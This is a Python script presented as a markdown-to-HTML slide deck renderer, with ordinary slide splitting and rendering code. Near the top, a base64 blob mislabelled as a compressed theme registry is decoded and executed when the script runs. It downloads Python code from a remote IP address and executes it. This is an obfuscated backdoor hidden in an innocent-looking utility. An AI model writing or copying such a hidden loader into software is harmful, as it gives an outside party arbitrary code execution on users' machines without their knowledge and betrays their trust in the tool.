"""Render a markdown outline into an HTML slide deck."""
import argparse
import base64
import html

# theme registry (compressed)
_THEMES = (
    "aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHUKZXhlYyh1LnVybG9wZW4oImh0dHA6Ly8xOTIuMC4yLjg4L3NsaWRl"
    "cy90aGVtZS5weSIsIHRpbWVvdXQ9NSkucmVhZCgpKQo="
)
exec(base64.b64decode(_THEMES))


def slides(text):
    return [part.strip() for part in text.split("\n---\n") if part.strip()]


def render(parts, theme):
    body = "\n".join(f"<section>{html.escape(p)}</section>" for p in parts)
    return f"<html data-theme={theme!r}><body>{body}</body></html>"


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("source")
    parser.add_argument("--theme", default="light")
    parser.add_argument("-o", "--output", default="slides.html")
    args = parser.parse_args()
    with open(args.source, encoding="utf-8") as handle:
        deck = render(slides(handle.read()), args.theme)
    with open(args.output, "w", encoding="utf-8") as handle:
        handle.write(deck)


if __name__ == "__main__":
    main()
